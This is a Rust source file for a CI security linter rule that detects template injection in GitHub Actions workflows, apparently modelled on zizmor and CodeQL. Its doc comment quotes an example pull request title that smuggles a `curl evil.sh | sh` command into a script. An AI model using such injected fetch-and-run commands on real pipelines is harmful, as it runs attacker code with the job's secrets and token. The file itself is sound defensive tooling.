//! ## What it does
//! Reports expressions expanded into code: a `run:` script (any shell), or
//! an action input that is code, as zizmor and CodeQL list them
//! (`actions/github-script` `script`, `Amadevus/pwsh-script` `script`,
//! `azure/cli` and `azure/powershell` `inlineScript`, `mikefarah/yq` `cmd`,
//! `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action`
//! `expression`, `appleboy/ssh-action` `script`, `tibdex/backport`
//! `title_template` and `body_template`). A value given as a YAML alias is
//! reported where its anchor wrote the text. By who controls the text:
//! - high: `github.event.*` text that the author of an issue, comment, pull
//!   request, commit or page chooses (titles, bodies, commit messages,
//!   author names and e-mails, head refs and labels, page names, the
//!   `workflow_run` head branch and display title, and whole objects that
//!   contain them, such as `toJSON(github.event.pull_request)`),
//!   `github.head_ref`, `github.event.client_payload.*` (a
//!   `repository_dispatch` sender's payload; medium confidence), `inputs.*`
//!   inside a composite action (medium confidence), and `env.NAME` when the
//!   file sets `NAME` from such text;
//! - medium: `matrix.KEY` when a value of the static matrix holds an
//!   expression, or the matrix is built at run time (`fromJSON`);
//! - low, low confidence (text whose source the file does not show):
//!   `inputs.*` and `github.event.inputs.*` of a workflow (whoever
//!   dispatches or calls it chooses them), `env.NAME` set from another
//!   expression or not set in the file (`$GITHUB_ENV` may set it), and
//!   step, job and `needs` outputs;
//! - auditor persona only: `matrix.KEY` whose static values are all fixed
//!   text;
//! - pedantic persona: every other context expanded into code
//!   (`github.event_name`, `github.repository`, `needs.*.result`,
//!   `secrets.*`...), low, as zizmor lists them: its text is not chosen
//!   by outsiders, but a script built by expansion is fragile.
//!
//! `env.NAME` is looked up as the runner does: the step's `env:`, then the
//! job's, then the workflow's; a fixed value is not reported. Only the
//! paths whose text can reach the expression's result count: `a || b` can
//! yield either, `a && b` yields `b` (or a falsy `a`: empty text, nothing
//! to inject), and `format`, `join`, `toJSON`, `fromJSON` and other
//! functions yield their arguments.
//!
//! Deliberately not flagged: expressions that can only produce fixed text,
//! a number or a boolean (`${{ cond && 'literal' || '' }}`, comparisons,
//! `!x`, `contains`/`startsWith`/`endsWith`, `success()` and its kin,
//! `hashFiles(...)`), numeric fields such as `github.event.issue.number`,
//! and, outside the pedantic persona, contexts GitHub or the repository's
//! writers control (`vars.*`, `secrets.*`, `github.repository`,
//! `github.sha`, `runner.*`). An expression the reader
//! does not understand counts every path it reads, so a gap never hides a
//! finding. Not covered yet: zizmor's pedantic findings for multi-line
//! expressions and its per-field capability table beyond the text fields
//! above.
//!
//! ## Why is this bad?
//! `${{ }}` is expanded into the script text before the shell runs it. A
//! pull request titled `a"; curl evil.sh | sh; echo "` becomes part of your
//! script and runs with the job's secrets and token.
//!
//! ## Example
//! ```yaml
//!       - run: echo "${{ github.event.issue.title }}"
//! ```
//!
//! ## Fix
//! Pass the value through an environment variable, which the shell treats
//! as data:
//! ```yaml
//!       - run: echo "$TITLE"
//!         env:
//!           TITLE: ${{ github.event.issue.title }}
//! ```
//!
//! ## Ignore
//! `# ci-intel: ignore[template-injection]` on the line of the expression
//! (inside the script, as a shell comment) or on the `run:` line.

use ci_intel_core::{Confidence, Severity};

use super::Rule;
use crate::audit::expr;
use crate::audit::model::{Ctx, Hit, Step};
use crate::audit::yaml::Node;
use crate::config::Persona;

pub const RULE: Rule = Rule {
    id: "template-injection",
    title: "Attacker-controllable expression expanded in a script",
    default_severity: Severity::High,
    persona: Persona::Regular,
    check,
};

const TEXT_SUFFIXES: &[&str] = &[
    ".title",
    ".body",
    ".message",
    ".display_title",
    ".page_name",
    ".head_branch",
    ".head.ref",
    ".head.label",
    ".head_ref",
    ".author.email",
    ".author.name",
    ".committer.email",
    ".committer.name",
    ".head.repo.default_branch",
    ".head.repo.description",
];

const WHOLE_OBJECTS: &[&str] = &[
    "github.event",
    "github.event.issue",
    "github.event.comment",
    "github.event.review",
    "github.event.review_comment",
    "github.event.pull_request",
    "github.event.pull_request.head",
    "github.event.discussion",
    "github.event.head_commit",
    "github.event.commits",
    "github.event.workflow_run",
    "github.event.pages",
];

/// Actions whose input is code, and that input (zizmor's and CodeQL's sink
/// lists; facts, not code).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("Amadevus/pwsh-script", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("mikefarah/yq", "cmd"),
    ("jannekem/run-python-script-action", "script"),
    ("cardinalby/js-eval-action", "expression"),
    ("appleboy/ssh-action", "script"),
    // lodash templates, evaluated as JavaScript.
    ("tibdex/backport", "title_template"),
    ("tibdex/backport", "body_template"),
];

/// Who controls the text `path` expands to, when someone other than the
/// repository's writers may: the severity, confidence, whether only the
/// auditor persona reports it, and a note for the message.
struct Control {
    severity: Severity,
    confidence: Confidence,
    /// The least persona that reports it.
    persona: Persona,
    note: String,
}

impl Control {
    fn new(severity: Severity, confidence: Confidence, note: impl Into<String>) -> Self {
        Control {
            severity,
            confidence,
            persona: Persona::Regular,
            note: note.into(),
        }
    }
}

/// The first segment after `prefix` (`env.FOO.bar` → `FOO`).
fn segment<'p>(path: &'p str, prefix: &str) -> Option<&'p str> {
    let rest = path.strip_prefix(prefix)?;
    let end = rest.find(['.', '[']).unwrap_or(rest.len());
    Some(&rest[..end]).filter(|s| !s.is_empty())
}

fn control(ctx: &Ctx<'_>, step: &Step<'_>, path: &str, composite: bool) -> Option<Control> {
    if let Some(confidence) = dangerous(path, composite) {
        return Some(Control::new(Severity::High, confidence, ""));
    }
    if let Some(name) = segment(path, "env.") {
        // The runner's order: step, job, workflow. Context names are
        // case-insensitive in expressions (`env.comment_id` reads
        // `COMMENT_ID`).
        let value = env_entry(step.node.get("env"), name)
            .or_else(|| env_entry(step.job_node.and_then(|j| j.get("env")), name))
            .or_else(|| env_entry(ctx.doc.get("env"), name));
        return match value.map(|v| v.as_str().unwrap_or("")) {
            Some(text) if !text.contains("${{") => None,
            Some(text) => {
                let source = expr::expressions(text)
                    .iter()
                    .flat_map(|e| expr::output_paths(e.inner))
                    .find(|p| dangerous(p, composite).is_some());
                Some(match source {
                    Some(source) => Control::new(
                        Severity::High,
                        Confidence::High,
                        format!(" (set from `{source}`)"),
                    ),
                    None => Control::new(
                        Severity::Low,
                        Confidence::Low,
                        " (set from an expression whose text this file does not show)",
                    ),
                })
            }
            None => Some(Control::new(
                Severity::Low,
                Confidence::Low,
                " (not set in this file: an earlier step may set it through $GITHUB_ENV)",
            )),
        };
    }
    if !composite && (path.starts_with("inputs.") || path.starts_with("github.event.inputs.")) {
        return Some(Control::new(
            Severity::Low,
            Confidence::Medium,
            " (a workflow input: whoever dispatches or calls the workflow chooses it)",
        ));
    }
    if ["steps.", "needs.", "jobs."]
        .iter()
        .any(|p| path.starts_with(p))
        && path.contains(".outputs")
    {
        return Some(Control::new(
            Severity::Low,
            Confidence::Low,
            " (an output, which may carry text from anywhere)",
        ));
    }
    if let Some(key) = segment(path, "matrix.") {
        let values = step
            .job_node
            .and_then(|job| crate::audit::model::static_matrix_values(job, key));
        return match values {
            Some(values) if values.iter().all(|v| !v.contains("${{")) => Some(Control {
                persona: Persona::Auditor,
                ..Control::new(
                    Severity::Low,
                    Confidence::Low,
                    " (every value of the static matrix is fixed text)",
                )
            }),
            Some(_) => Some(Control::new(
                Severity::Medium,
                Confidence::Medium,
                " (a value of the matrix is itself an expression)",
            )),
            None => Some(Control::new(
                Severity::Medium,
                Confidence::Low,
                " (the matrix is built at run time)",
            )),
        };
    }
    // Pedantic, as zizmor: any other context expanded into code. Its text
    // is GitHub's or this repository's, but a script built by expansion
    // breaks on the first quote it meets.
    Some(Control {
        persona: Persona::Pedantic,
        ..Control::new(
            Severity::Low,
            Confidence::Low,
            " (its text is not chosen by outsiders, but expanding a context into code breaks on the first quote it holds)",
        )
    })
}

/// The value of `name` in an `env:` mapping, matched without case.
fn env_entry<'n>(env: Option<&'n Node>, name: &str) -> Option<&'n Node> {
    env?.entries()
        .iter()
        .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
        .map(|(_, v)| v)
}

/// Why `path` is attacker-controllable, if it is.
fn dangerous(path: &str, composite: bool) -> Option<Confidence> {
    if path == "github.head_ref" {
        return Some(Confidence::High);
    }
    if path.starts_with("github.event.") {
        if path.starts_with("github.event.inputs.") {
            return None;
        }
        // repository_dispatch: whatever the sender put in the payload.
        if path.starts_with("github.event.client_payload") {
            return Some(Confidence::Medium);
        }
        if TEXT_SUFFIXES.iter().any(|s| path.ends_with(s)) {
            return Some(Confidence::High);
        }
    }
    if WHOLE_OBJECTS.contains(&path) {
        return Some(Confidence::Medium);
    }
    if composite && path.starts_with("inputs.") {
        return Some(Confidence::Medium);
    }
    None
}

fn check(ctx: &Ctx<'_>, hits: &mut Vec<Hit>) {
    let composite = ctx.is_composite();
    let persona = ctx.opts.persona;
    for step in ctx.steps() {
        // (what, key, value): an ignore comment on the key's line counts too.
        let mut scripts: Vec<(String, &Node, &Node)> = Vec::new();
        if let Some((key, run)) = step.node.entry("run") {
            scripts.push(("a `run:` script".to_owned(), key, run));
        }
        if let Some(uses) = step.uses()
            && let Some(with) = step.node.get("with")
        {
            for (action, input) in CODE_INPUTS {
                if uses.is_action(&action.to_ascii_lowercase())
                    && let Some((key, value)) = with.entry(input)
                {
                    scripts.push((format!("{action} `{input}:`"), key, value));
                }
            }
        }
        for (what, key, node) in scripts {
            let Some(text) = node.as_str() else { continue };
            for found in expr::expressions(text) {
                for path in expr::output_paths(found.inner) {
                    let Some(control) = control(ctx, &step, &path, composite) else {
                        continue;
                    };
                    if control.persona > persona {
                        continue;
                    }
                    // The expression's text is where it was written: at the
                    // anchor, for a value given as an alias (as zizmor points).
                    let written = node.origin.unwrap_or(node.pos);
                    let mut pos = ctx.src.locate(written, found.raw).unwrap_or(written);
                    // In an expression written over several lines, point at
                    // the line of the path itself.
                    let lower = found.raw.to_ascii_lowercase();
                    if let Some(at) = lower.find(&path.to_ascii_lowercase()) {
                        let below = lower[..at].matches('\n').count();
                        if below > 0 {
                            pos.line += u32::try_from(below).unwrap_or(0);
                            pos.end_line = pos.end_line.max(pos.line);
                        }
                    }
                    let consequence = if control.severity == Severity::High {
                        "whoever controls it can inject code into the script"
                    } else {
                        "if its text can come from someone outside the repository, they can inject code"
                    };
                    hits.push(
                        Hit::new(
                            RULE.id,
                            control.severity,
                            pos,
                            format!("{}:{path}", step.describe()),
                            format!(
                                "{} expands `{path}`{} inside {what}: {consequence}",
                                step.describe(),
                                control.note
                            ),
                        )
                        .confidence(control.confidence)
                        .also_line(key.pos.line)
                        .fix("pass it through `env:` (e.g. `TITLE: ${{ ... }}`) and use \"$TITLE\" in the script"),
                    );
                }
            }
        }
    }
}
